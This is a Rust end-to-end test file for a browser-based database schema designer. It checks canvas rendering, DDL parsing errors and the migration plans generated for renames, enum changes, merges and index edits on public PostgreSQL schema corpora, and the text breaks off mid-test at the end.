//! Journeys through the release build in headless Chromium, as a user takes them.
#![allow(clippy::expect_used, clippy::panic)]

use bellows_e2e::{Playground, Session, Setup};

#[tokio::test]
async fn first_visit_shows_the_example_schema() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    session.client.goto(&session.site.url).await.expect("page loads");
    let page = Playground { client: &session.client };
    page.wait_until_ready().await;
    assert_eq!(page.table_count().await, "5 tables");
    assert_eq!(session.client.title().await.expect("title"), "Bellows: schema design and safe migrations");
    assert!(loaded(&session, "bellows-worker_loader.js").await, "the analysis worker answered the first analysis");
    assert!(!loaded(&session, "bellows-full").await, "the full engine waits until something needs it");
    session.screenshot("01-first-visit").await;
    session.close().await;
}

/// Whether the page has fetched a file whose address contains `name` (its resource timings).
async fn loaded(session: &Session, name: &str) -> bool {
    let script = "return performance.getEntriesByType('resource').some(e => e.name.includes(arguments[0]));";
    session.client.execute(script, vec![name.into()]).await.expect("eval").as_bool().unwrap_or(false)
}

#[tokio::test]
async fn pasting_and_typing_ddl_updates_the_count_and_reports_errors_with_line_and_column() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    session.client.goto(&session.site.url).await.expect("page loads");
    let page = Playground { client: &session.client };
    page.wait_until_ready().await;

    let pasted = "CREATE TABLE authors (id bigint PRIMARY KEY, name text NOT NULL);\n\
                  CREATE TABLE books (id bigint PRIMARY KEY, author_id bigint REFERENCES authors (id));\n\
                  CREATE TABLE reviews (id bigint PRIMARY KEY, book_id bigint, stars int);";
    page.paste_source(pasted).await;
    assert_eq!(page.wait_for_table_count("3 tables").await, "3 tables");
    session.screenshot("02-pasted").await;

    let typed = "CREATE TABLE a (id int);\nCREATE TABLE b (id int,, x int);";
    page.type_source(typed).await;
    assert_eq!(page.wait_for_table_count("1 table").await, "1 table");
    assert_eq!(page.text_of("error-count").await, "1 error");
    let diagnostics = page.diagnostics().await;
    assert_eq!(diagnostics.len(), 1, "{diagnostics:?}");
    assert!(diagnostics[0].starts_with("2:24"), "{diagnostics:?}");
    assert_eq!(page.source_value().await, typed, "the typed text is kept exactly");
    session.screenshot("03-parse-error").await;
    session.close().await;
}

const BOOKS: &str = "CREATE TABLE authors (id bigint PRIMARY KEY, name text NOT NULL);\n\
CREATE TABLE books (id bigint PRIMARY KEY, author_id bigint NOT NULL, title text NOT NULL, published_at timestamptz);\n\
CREATE INDEX books_author_idx ON books (author_id);\n";

async fn open_with<'a>(session: &'a Session, sql: &str) -> Playground<'a> {
    session.client.goto(&session.site.url).await.expect("page loads");
    let page = Playground { client: &session.client };
    page.wait_until_ready().await;
    page.paste_source(sql).await;
    page
}

/// Pastes a PostgreSQL corpus dump and waits until the page shows as many tables as the core
/// reads from it; returns the page and the core's schema, to say what the page must show.
async fn open_pg_dump<'a>(session: &'a Session, sql: &str) -> (Playground<'a>, bellows_core::Schema) {
    let page = open_with(session, sql).await;
    let schema = bellows_core::import(sql, Some(bellows_core::Dialect::Postgres)).schema;
    page.wait_for_table_count(&format!("{} tables", schema.tables.len())).await;
    (page, schema)
}

/// The audit's findings of rule `code` on a PostgreSQL schema, as the page's worker finds them.
fn audit_of(schema: &bellows_core::Schema, code: &str) -> Vec<bellows_core::lint::Finding> {
    bellows_core::lint::audit(schema, bellows_core::Dialect::Postgres, &Default::default())
        .into_iter()
        .filter(|f| f.rule.code() == code)
        .collect()
}

/// The corpora are read from ../shared/corpora (never bundled); without them this journey
/// skips, except under CI where that is a failure.
fn corpus(path: &str) -> Option<String> {
    let root = std::env::var_os("BELLOWS_CORPORA")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora"));
    match std::fs::read_to_string(root.join(path)) {
        Ok(text) => Some(text),
        Err(_) if std::env::var("CI").as_deref() == Ok("true") => {
            panic!("CI=true but {path} is missing from the corpora")
        }
        Err(_) => {
            eprintln!("SKIPPED: {path} needs ../shared/corpora");
            None
        }
    }
}

#[tokio::test]
async fn a_pasted_pg_dump_shows_every_table_on_the_canvas() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-pagila/pagila-schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let page = open_with(&session, &sql).await;
    // As many tables as the core reads from the file natively (the corpus test checks that
    // number against an independent count).
    let expected = bellows_core::import(&sql, Some(bellows_core::Dialect::Postgres)).schema.tables.len();
    let count = page.wait_for_table_count(&format!("{expected} tables")).await;
    assert_eq!(count, format!("{expected} tables"));
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let mut cards = page.card_names().await;
    cards.sort();
    cards.dedup();
    assert_eq!(cards.len(), expected, "after fitting, every table is drawn: {cards:?}");
    assert!(cards.iter().any(|c| c == "film_actor") && cards.iter().any(|c| c == "payment_p2022_01"), "{cards:?}");
    session.screenshot("04-pagila-on-canvas").await;
    session.close().await;
}

/// A big schema opens as an overview of names, shaped for the screen: at Fit, every table's
/// name is on screen, drawn at a size a person can read, and no two names cover each other.
#[tokio::test]
async fn a_big_schema_opens_as_an_overview_where_every_name_reads_at_fit() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-synapse/main_full_v72.pg.sql") else { return };
    let session = Session::open(&setup).await;
    // A desktop's window (the canvas is about 890 x 840 px beside the side panels).
    session.client.set_window_size(1600, 1000).await.expect("window resized");
    let page = open_with(&session, &sql).await;
    let expected = bellows_core::import(&sql, Some(bellows_core::Dialect::Postgres)).schema.tables.len();
    assert!(expected > 100, "Synapse has {expected} tables");
    page.wait_for_table_count(&format!("{expected} tables")).await;
    tokio::time::sleep(std::time::Duration::from_millis(800)).await;
    let density = session
        .client
        .execute("return document.querySelector('[data-testid=\"density\"]').value", vec![])
        .await
        .expect("density");
    assert_eq!(density, "names", "over 100 tables, the canvas opens on names only");
    // Every title: on the canvas, at least 9 px tall on screen (an 8 px font or more), and
    // clear of every other title.
    let titles = session
        .client
        .execute(
            "const canvas = document.querySelector('[data-testid=\"canvas\"]').getBoundingClientRect();
             return [...document.querySelectorAll('[data-testid=\"table-card\"] .card-title')].map(t => {
               const r = t.getBoundingClientRect();
               return [t.parentNode.dataset.name, r.left, r.top, r.width, r.height,
                       r.left >= canvas.left && r.right <= canvas.right && r.top >= canvas.top && r.bottom <= canvas.bottom];
             });",
            vec![],
        )
        .await
        .expect("titles");
    let titles: Vec<(String, f64, f64, f64, f64, bool)> = serde_json::from_value(titles).expect("title boxes");
    session.screenshot("04b-synapse-overview-at-fit").await;
    assert_eq!(titles.len(), expected, "every table is drawn at Fit");
    for (name, _, _, _, h, inside) in &titles {
        assert!(*inside, "{name} is off the canvas at Fit");
        // A thousandth of a pixel for the float arithmetic of the picture's CSS translate
        // (a title of exactly 9 px measures 8.9999 through it).
        assert!(*h >= 9.0 - 1e-3, "{name}'s title is {h:.4} px tall at Fit");
    }
    let smallest = titles.iter().map(|t| t.4).fold(f64::MAX, f64::min);
    println!("{} titles at Fit, the smallest {smallest:.3} px tall", titles.len());
    for (i, a) in titles.iter().enumerate() {
        for b in &titles[i + 1..] {
            let apart = a.1 + a.3 <= b.1 || b.1 + b.3 <= a.1 || a.2 + a.4 <= b.2 || b.2 + b.4 <= a.2;
            assert!(apart, "{} and {} cover each other at Fit", a.0, b.0);
        }
    }
    // The columns come back on request; the canvas fits again, every table still drawn.
    session
        .client
        .execute(
            "const s = document.querySelector('[data-testid=\"density\"]'); s.value = 'columns';
             s.dispatchEvent(new Event('change', { bubbles: true }));",
            vec![],
        )
        .await
        .expect("density changed");
    tokio::time::sleep(std::time::Duration::from_millis(800)).await;
    let mut cards = page.card_names().await;
    cards.sort();
    cards.dedup();
    assert_eq!(cards.len(), expected, "with every column, every table is still drawn at Fit");
    session.close().await;
}

#[tokio::test]
async fn renaming_a_column_on_the_canvas_plans_the_rename_recipe() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    let page = open_with(&session, BOOKS).await;
    page.wait_for_table_count("2 tables").await;
    page.select_table("books").await;
    page.rename_column("published_at", "released_at").await;
    let plan = page.plan_text().await;
    assert!(plan.contains("rename column books.published_at -> released_at"), "{plan}");
    assert!(plan.contains("CREATE TRIGGER bellows_sync_books_released_at"), "{plan}");
    assert!(plan.contains("DROP COLUMN published_at"), "contract drops the old column: {plan}");
    session.screenshot("05-rename-plan").await;
    session.close().await;
}

/// Evergreen documents its tables with multi-line comments (`COMMENT ON TABLE ... IS $$...$$`): the
/// inspector shows one whole, an edit to it (Ctrl+Enter commits) plans a COMMENT ON, and undo
/// takes it back.
#[tokio::test]
async fn a_real_table_comment_is_read_and_edited_in_the_inspector() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-evergreen/evergreen_full_schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let expected = schema
        .find_table("config.bib_source")
        .and_then(|t| t.comment.clone())
        .expect("Evergreen comments config.bib_source");
    assert!(expected.contains("relative \"quality\" of each\nMARC source"), "{expected}");
    page.find_table("config.bib_source").await;
    page.click("tab-table").await;
    let field = page.element("[data-testid=\"table-comment\"]").await;
    assert_eq!(field.prop("value").await.expect("value").as_deref(), Some(expected.trim()));
    // To the end of the text, a sentence more, Ctrl+Enter.
    field
        .send_keys("\u{E009}\u{E010}\u{E000}\nQuality 0 means never preferred.\u{E009}\u{E007}\u{E000}")
        .await
        .expect("typed");
    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "set the comment of table config.bib_source").await;
    assert!(plan.contains("COMMENT ON TABLE config.bib_source IS"), "{plan}");
    assert!(plan.contains("Quality 0 means never preferred.'"), "{plan}");
    assert!(plan.contains("SHARE UPDATE EXCLUSIVE"), "{plan}");
    page.click("tab-table").await;
    let field = page.element("[data-testid=\"table-comment\"]").await;
    let now = field.prop("value").await.expect("value").unwrap_or_default();
    assert!(
        now.ends_with("for targeted URIs are unaffected by this setting.\nQuality 0 means never preferred."),
        "{now}"
    );
    session.screenshot("15e-inspector-comment").await;
    page.click("tab-plan").await;
    page.click("undo").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    session.close().await;
}

/// Pagila's film ratings (an enum type) redrawn in the inspector: a label renamed, one added
/// last, and one folded into another, one undo step each; the plan renames in place, adds with
/// `ADD VALUE`, and makes the type anew with the views that read `film.rating` around it.
#[tokio::test]
async fn a_real_enum_type_has_its_labels_renamed_added_and_folded_in_the_inspector() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-pagila/pagila-schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let ratings = schema.find_enum("mpaa_rating").expect("Pagila rates films with an enum").labels.clone();
    assert_eq!(ratings, ["G", "PG", "PG-13", "R", "NC-17"]);
    let labels = || async {
        tokio::time::sleep(std::time::Duration::from_millis(400)).await;
        let v = session
            .client
            .execute(
                "return [...document.querySelectorAll('[data-testid=enum-label]')].map(e => e.dataset.label);",
                vec![],
            )
            .await
            .expect("labels");
        serde_json::from_value::<Vec<String>>(v).unwrap_or_default()
    };
    let client = &session.client;
    let run = |script: &'static str| async move {
        client.execute(script, vec![]).await.expect("script runs");
    };
    page.find_table("film").await;
    page.click("tab-table").await;
    assert_eq!(labels().await, ratings);

    run("const i = document.querySelector('[data-testid=enum-label][data-label=\"NC-17\"] input'); i.value = 'NC17'; i.dispatchEvent(new Event('change', {bubbles: true}));").await;
    assert_eq!(labels().await, ["G", "PG", "PG-13", "R", "NC17"]);
    run("const i = document.querySelector('[data-testid=new-label]'); i.value = 'X'; i.dispatchEvent(new Event('input', {bubbles: true}));").await;
    page.click("add-label").await;
    assert_eq!(labels().await, ["G", "PG", "PG-13", "R", "NC17", "X"]);
    let into =
        session.client.find(fantoccini::Locator::Css("[data-testid=\"label-replacement\"]")).await.expect("select");
    into.select_by_value("PG").await.expect("PG");
    page.element_click("[data-testid=\"enum-label\"][data-label=\"PG-13\"] [data-testid=\"remove-label\"]").await;
    assert_eq!(labels().await, ["G", "PG", "R", "NC17", "X"]);
    session.screenshot("15h-inspector-enum").await;

    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "RENAME VALUE").await;
    for expected in [
        "mpaa_rating RENAME VALUE 'NC-17' TO 'NC17'",
        "mpaa_rating ADD VALUE IF NOT EXISTS 'X' AFTER 'NC-17'",
        "mpaa_rating AS ENUM ('G', 'PG', 'R', 'NC17', 'X')",
        "CASE rating::text WHEN 'PG-13' THEN 'PG' ELSE rating::text END",
        "film_list",
    ] {
        assert!(plan.contains(expected), "{expected}: {plan}");
    }
    session.screenshot("15i-plan-enum").await;
    for _ in 0..3 {
        page.click("undo").await;
    }
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    session.close().await;
}

/// Request Tracker's tickets keep their status and type as free text. A designer holds status
/// to RT's six statuses with a new enum type (its index on (queue, status) follows) and type to
/// three values with a CHECK, from the inspector; each is one undo step.
#[tokio::test]
async fn a_real_free_text_status_is_held_to_its_values_by_an_enum_type_and_a_check() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-rt/schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let tickets = schema.find_table("Tickets").expect("RT has Tickets");
    assert!(tickets.column("status").is_some_and(|c| c.data_type.spelling.eq_ignore_ascii_case("varchar(64)")));
    let client = &session.client;
    let fill = |column: &'static str, values: &'static str| async move {
        let script = format!(
            "const i = document.querySelector('tr.row-actions[data-column=\"{column}\"] [data-testid=allowed-values]'); i.value = {values:?}; i.dispatchEvent(new Event('input', {{bubbles: true}}));"
        );
        client.execute(&script, vec![]).await.expect("script runs");
    };
    let choose = |column: &'static str, how: &'static str| async move {
        let select = client
            .find(fantoccini::Locator::Css(&format!(
                "tr.row-actions[data-column=\"{column}\"] [data-testid=\"allowed-as\"]"
            )))
            .await
            .expect("select");
        select.select_by_value(how).await.expect("option");
    };
    page.find_table("tickets").await;
    page.click("tab-table").await;

    page.element_click("tr.row-actions[data-column=\"status\"] [data-testid=\"allow-only\"]").await;
    fill("status", "new, open, stalled, resolved, rejected, deleted").await;
    choose("status", "enum").await;
    page.element_click("tr.row-actions[data-column=\"status\"] [data-testid=\"allow-only-apply\"]").await;
    let labels = page.wait_for_text("enum", "tickets_status").await;
    assert!(labels.contains("held by status"), "{labels}");

    // The audit flags Tickets.Type as free text that looks like a fixed set of values; its
    // "Allow only…" opens the column's form in the inspector.
    page.click("tab-audit").await;
    let offered = client
        .execute(
            "document.querySelectorAll('[data-testid=show-more-findings]').forEach(b => b.click());
             const f = [...document.querySelectorAll('[data-testid=finding][data-code=enum-like-text-without-check]')]
               .find(li => li.textContent.toLowerCase().includes('tickets.type '));
             if (!f) return false;
             f.scrollIntoView({block: 'center'});
             return true;",
            vec![],
        )
        .await
        .expect("script runs");
    assert_eq!(offered, serde_json::json!(true), "the audit flags tickets.type");
    session.screenshot("15i-audit-allow-only-offer").await;
    client
        .execute(
            "[...document.querySelectorAll('[data-testid=finding][data-code=enum-like-text-without-check]')]
               .find(li => li.textContent.toLowerCase().includes('tickets.type '))
               .querySelector('[data-testid=allow-only-offer]').click();",
            vec![],
        )
        .await
        .expect("script runs");
    page.element("tr.row-actions[data-column=\"type\"] [data-testid=\"allow-only-form\"]:not(.hidden)").await;
    fill("type", "ticket, approval, reminder").await;
    client
        .execute("document.querySelector('tr.fields[data-column=\"type\"]').scrollIntoView({block: 'start'});", vec![])
        .await
        .expect("script runs");
    session.screenshot("15j-inspector-allow-only").await;
    page.element_click("tr.row-actions[data-column=\"type\"] [data-testid=\"allow-only-apply\"]").await;
    let checks = page.wait_for_text("checks", "approval").await;
    assert!(checks.contains("type IN ('ticket', 'approval', 'reminder')"), "{checks}");

    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "tickets_status").await;
    for expected in [
        "CREATE TYPE tickets_status AS ENUM ('new', 'open', 'stalled', 'resolved', 'rejected', 'deleted')",
        "NOT IN ('new', 'open', 'stalled', 'resolved', 'rejected', 'deleted')",
        "CHECK (Type IN ('ticket', 'approval', 'reminder')) NOT VALID",
        "tickets1",
    ] {
        assert!(plan.to_lowercase().contains(&expected.to_lowercase()), "{expected}: {plan}");
    }
    session.screenshot("15k-plan-allow-only").await;
    for _ in 0..2 {
        page.click("undo").await;
    }
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    session.close().await;
}

/// Roundcube keeps its thread cache beside its index cache, two tables of the same shape keyed
/// by (user_id, mailbox). A designer drags cache_thread's card onto cache_index's: the canvas
/// marks the table it would go into, the inspector offers the merge with the key that matches
/// rows, and the plan copies the rows instead of dropping them. One undo step takes it back.
#[tokio::test]
async fn a_real_table_dropped_on_its_twin_merges_into_it_and_the_plan_copies_its_rows() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-roundcube/postgres.initial.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    assert!(schema.find_table("cache_thread").is_some() && schema.find_table("cache_index").is_some());
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let client = &session.client;
    page.drag_table_onto("cache_thread", "cache_index", || async {
        let marked = client
            .execute("return document.querySelector('.card.merge-target')?.getAttribute('data-name');", vec![])
            .await
            .expect("script runs");
        assert_eq!(marked.as_str(), Some("cache_index"), "the card under the pointer is marked");
        let hint = client
            .execute("return document.querySelector('[data-testid=drop-hint]')?.textContent;", vec![])
            .await
            .expect("script runs");
        assert_eq!(hint.as_str(), Some("Drop to merge cache_thread into cache_index"));
        session.screenshot("15l-canvas-drop-to-merge").await;
    })
    .await;
    // Nothing changes until the merge is confirmed: the form is open with cache_index chosen.
    page.element("[data-testid=merge-form]:not(.hidden) [data-testid=merge-on]").await;
    let chosen = client
        .execute(
            "const f = document.querySelector('[data-testid=merge-form]');
             return [f.classList.contains('hidden'), f.querySelector('[data-testid=merge-into]').selectedOptions[0].textContent, f.querySelector('[data-testid=merge-on]').selectedOptions[0].textContent];",
            vec![],
        )
        .await
        .expect("script runs");
    assert_eq!(chosen, serde_json::json!([false, "cache_index", "user_id, mailbox (primary key)"]), "{chosen}");
    // The column cache_thread lacks is named as a column, with where its value comes from.
    let hint = client
        .execute("return document.querySelector('[data-testid=merge-form] .hint').textContent;", vec![])
        .await
        .expect("script runs");
    let hint = hint.as_str().unwrap_or_default();
    assert!(
        hint.starts_with("cache_thread has no column valid: its rows take cache_index's default there. "),
        "{hint}"
    );
    session.screenshot("15m-inspector-merge").await;
    page.element_click("[data-testid=\"merge-apply\"]").await;
    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "merge table cache_thread into cache_index").await;
    for expected in [
        "merge table cache_thread into cache_index on user_id, mailbox",
        "INSERT INTO cache_index (user_id, mailbox, expires, data) SELECT b.user_id, b.mailbox, b.expires, b.data FROM cache_thread b",
        "every cache_thread row has its row in cache_index",
        "CREATE VIEW cache_thread AS SELECT user_id, mailbox, expires, data FROM cache_index",
    ] {
        assert!(plan.contains(expected), "{expected}: {plan}");
    }
    assert!(!plan.contains("DROP TABLE cache_thread;"), "the rows are copied, not dropped: {plan}");
    session.screenshot("15n-plan-merge").await;
    page.click("undo").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    session.close().await;
}

/// MusicBrainz keeps a label's ratings in label_meta, one row per label (its key references
/// label's). A designer moves label.last_updated there from the inspector: the form offers only
/// tables that hold one row per label, and the plan keeps both places in step while v1 runs,
/// copies the values, and makes the rows label_meta lacks once v1 has stopped. One undo step
/// takes it back.
#[tokio::test]
async fn a_real_column_moves_to_the_table_that_holds_one_row_per_row_of_its_own() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-musicbrainz/musicbrainz_full_schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let label = schema.find_table("musicbrainz.label").expect("MusicBrainz has label");
    assert!(label.column("last_updated").is_some());
    let client = &session.client;
    page.find_table("musicbrainz.label").await;
    page.click("tab-table").await;
    let form = page.element("[data-testid=\"move-column\"]").await;
    let offered = form
        .find(fantoccini::Locator::Css("[data-testid=\"move-into\"]"))
        .await
        .expect("the tables")
        .text()
        .await
        .expect("text");
    assert!(offered.contains("label_meta"), "{offered}");
    assert!(!offered.contains("label_alias"), "many aliases per label: not offered: {offered}");
    let pick = |test_id: &'static str, label: String| async move {
        let select =
            client.find(fantoccini::Locator::Css(&format!("[data-testid=\"{test_id}\"]"))).await.expect("select");
        select.select_by_label(&label).await.unwrap_or_else(|e| panic!("{label}: {e}"));
    };
    let meta = offered.lines().map(str::trim).find(|l| l.ends_with("label_meta")).unwrap_or("label_meta").to_string();
    pick("move-into", meta).await;
    pick("move-pick", "last_updated".into()).await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    session.screenshot("15o-inspector-move-column").await;
    page.click("move-go").await;
    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "last_updated ->").await;
    for expected in [
        "move last_updated from musicbrainz.label to musicbrainz.label_meta",
        "copy last_updated of existing musicbrainz.label rows into their musicbrainz.label_meta rows",
        "make the musicbrainz.label_meta rows that musicbrainz.label rows with last_updated lack",
    ] {
        assert!(plan.contains(expected), "{expected}: {plan}");
    }
    assert!(!plan.contains("not planned"), "{plan}");
    session.screenshot("15p-plan-move-column").await;
    page.click("undo").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    session.close().await;
}

/// Pagila's film_actor retuned by a designer: its composite primary key (the dump adds it with
/// ALTER TABLE) turned to (film_id, actor_id), which makes idx_fk_film_id redundant, so it is
/// dropped; and an index over two columns, the second sorted downwards. One undo step each.
#[tokio::test]
async fn a_real_composite_key_is_reordered_and_an_index_over_two_columns_is_added() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-pagila/pagila-schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let film_actor = schema.find_table("film_actor").expect("Pagila has film_actor");
    assert_eq!(
        film_actor.primary_key.as_ref().map(|k| k.columns.clone()),
        Some(vec!["actor_id".to_string(), "film_id".to_string()])
    );
    let keys = || async {
        tokio::time::sleep(std::time::Duration::from_millis(400)).await;
        let v = session
            .client
            .execute(
                "return [...document.querySelectorAll('[data-testid=key]')].map(e => e.textContent.replace('drop', '').trim());",
                vec![],
            )
            .await
            .expect("keys");
        serde_json::from_value::<Vec<String>>(v).unwrap_or_default()
    };
    page.find_table("film_actor").await;
    page.click("tab-table").await;
    let before = keys().await;
    assert!(before.iter().any(|k| k.starts_with("PRIMARY KEY(actor_id, film_id)")), "{before:?}");
    assert!(before.iter().any(|k| k.starts_with("INDEX(film_id)") && k.ends_with("idx_fk_film_id")), "{before:?}");

    // The key: the form starts from it; film_id moves first.
    let kind = session.client.find(fantoccini::Locator::Css("[data-testid=\"key-kind\"]")).await.expect("kind");
    kind.select_by_value("primary key").await.expect("primary key");
    page.element_click("[data-testid=\"key-column\"][data-column=\"film_id\"] [data-testid=\"key-column-earlier\"]")
        .await;
    let add = page.element("[data-testid=\"key-add\"]").await;
    assert_eq!(add.text().await.expect("text"), "Make the primary key (film_id, actor_id)");
    add.click().await.expect("clicked");
    let now = keys().await;
    assert!(now.iter().any(|k| k.starts_with("PRIMARY KEY(film_id, actor_id)")), "{now:?}");

    // The index the key now serves goes.
    session
        .client
        .execute(
            "[...document.querySelectorAll('[data-testid=key]')].find(e => e.textContent.includes('idx_fk_film_id')).querySelector('[data-testid=drop-key]').click();",
            vec![],
        )
        .await
        .expect("drop clicked");
    let now = keys().await;
    assert!(!now.iter().any(|k| k.contains("idx_fk_film_id")), "{now:?}");

    // An index over (actor_id, last_update DESC).
    let kind = session.client.find(fantoccini::Locator::Css("[data-testid=\"key-kind\"]")).await.expect("kind");
    kind.select_by_value("index").await.expect("index");
    page.element_click("[data-testid=\"key-pick\"][data-column=\"actor_id\"]").await;
    page.element_click("[data-testid=\"key-pick\"][data-column=\"last_update\"]").await;
    page.element_click("[data-testid=\"key-column\"][data-column=\"last_update\"] [data-testid=\"key-desc\"]").await;
    page.click("key-add").await;
    let now = keys().await;
    assert!(
        now.iter().any(|k| k.starts_with("INDEX(actor_id, last_update DESC)")
            && k.ends_with("film_actor_actor_id_last_update_idx")),
        "{now:?}"
    );
    session.screenshot("15f-inspector-keys").await;

    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "PRIMARY KEY USING INDEX").await;
    assert!(plan.contains("DROP INDEX CONCURRENTLY") && plan.contains("idx_fk_film_id"), "{plan}");
    assert!(
        plan.contains("film_actor_actor_id_last_update_idx") && plan.contains("(actor_id, last_update DESC)"),
        "{plan}"
    );
    session.screenshot("15g-plan-keys").await;
    for _ in 0..3 {
        page.click("undo").await;
    }
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "{plan}");
    session.close().await;
}

/// Evergreen's hundreds of tables in a dozen schemas: the namespace filter shows one schema, and
/// the name filter narrows it with a pattern and leaves matches out, each time exactly the tables
/// the model says, laid out on their own and fitted.
#[tokio::test]
async fn the_filter_shows_one_schema_and_the_names_that_match() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-evergreen/evergreen_full_schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    let all = schema.tables.len();
    let expect = |keep: &dyn Fn(&bellows_core::Table) -> bool| {
        let mut names: Vec<String> = schema.tables.iter().filter(|t| keep(t)).map(|t| t.qualified_name()).collect();
        names.sort();
        names
    };
    let shown = || async {
        tokio::time::sleep(std::time::Duration::from_millis(400)).await;
        let mut cards = page.card_names().await;
        cards.sort();
        cards.dedup();
        cards
    };
    // The minimap: at Fit its window holds the whole diagram; zoomed in, a part; a press on the
    // minimap's far corner takes the view there.
    let window = || async {
        let v = session
            .client
            .execute(
                "const m = document.querySelector('[data-testid=minimap]'); const w = document.querySelector('[data-testid=minimap-window]');
                 return [m.width.baseVal.value, m.height.baseVal.value, w.x.baseVal.value, w.y.baseVal.value, w.width.baseVal.value, w.height.baseVal.value];",
                vec![],
            )
            .await
            .expect("minimap");
        serde_json::from_value::<Vec<f64>>(v).expect("numbers")
    };
    let fitted = window().await;
    assert!(
        fitted[4] >= fitted[0] * 0.9 || fitted[5] >= fitted[1] * 0.9,
        "at Fit the window spans the map: {fitted:?}"
    );
    for _ in 0..8 {
        session
            .client
            .execute("document.querySelector('button[title=\"Zoom in\"]').click();", vec![])
            .await
            .expect("zoom");
    }
    let zoomed = window().await;
    assert!(zoomed[4] < fitted[4] * 0.5, "zoomed in, the window is a part: {zoomed:?}");
    session
        .client
        .execute(
            "const m = document.querySelector('[data-testid=minimap]'); const r = m.getBoundingClientRect();
             m.dispatchEvent(new PointerEvent('pointerdown', { bubbles: true, buttons: 1, clientX: r.right - 4, clientY: r.bottom - 4 }));
             m.dispatchEvent(new PointerEvent('pointerup', { bubbles: true, clientX: r.right - 4, clientY: r.bottom - 4 }));",
            vec![],
        )
        .await
        .expect("pressed");
    let moved = window().await;
    let centre = (moved[2] + moved[4] / 2.0, moved[3] + moved[5] / 2.0);
    assert!(
        (centre.0 - (moved[0] - 4.0)).abs() < 3.0 && (centre.1 - (moved[1] - 4.0)).abs() < 3.0,
        "the view is centred where the minimap was pressed: {moved:?}"
    );
    session.screenshot("04f-evergreen-minimap").await;
    session.client.execute("document.querySelector('[data-testid=fit]').click();", vec![]).await.expect("fit");

    let acq = expect(&|t| t.namespace.as_deref() == Some("acq"));
    assert!(acq.len() >= 20, "Evergreen's acquisitions schema: {acq:?}");
    let select = session.client.find(fantoccini::Locator::Css("[data-testid=namespace-filter]")).await.expect("menu");
    select.select_by_value("acq").await.expect("acq");
    assert_eq!(shown().await, acq, "the acq schema, nothing else");
    assert_eq!(page.text_of("shown-count").await, format!("{} of {all} tables", acq.len()));
    session.screenshot("04d-evergreen-namespace-acq").await;

    let filter = session.client.find(fantoccini::Locator::Css("[data-testid=filter]")).await.expect("filter");
    filter.send_keys("*invoice* !*_entry").await.expect("typed");
    let invoices =
        expect(&|t| t.namespace.as_deref() == Some("acq") && t.name.contains("invoice") && !t.name.ends_with("_entry"));
    assert!(!invoices.is_empty() && invoices.len() < acq.len(), "{invoices:?}");
    assert_eq!(shown().await, invoices, "acq's invoice tables, the entries left out");
    session.screenshot("04e-evergreen-filter-invoice").await;

    let select = session.client.find(fantoccini::Locator::Css("[data-testid=namespace-filter]")).await.expect("menu");
    select.select_by_value("").await.expect("all schemas");
    filter.clear().await.expect("cleared");
    filter.send_keys("*.*_log").await.expect("typed");
    let logs = expect(&|t| t.namespace.is_some() && t.name.ends_with("_log"));
    assert!(logs.len() >= 2, "{logs:?}");
    assert_eq!(shown().await, logs, "every schema's *_log tables");
    session.close().await;
}

#[tokio::test]
async fn focus_shows_a_table_and_its_neighbours_within_the_hops_chosen() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-pagila/pagila-schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, schema) = open_pg_dump(&session, &sql).await;
    // film's neighbours in the model: what it references and what references it.
    let refs =
        |t: &bellows_core::Table, to: &str| t.foreign_keys.iter().any(|fk| fk.ref_table.eq_ignore_ascii_case(to));
    let film = schema.find_table("film").expect("film");
    let mut expected: Vec<String> = schema
        .tables
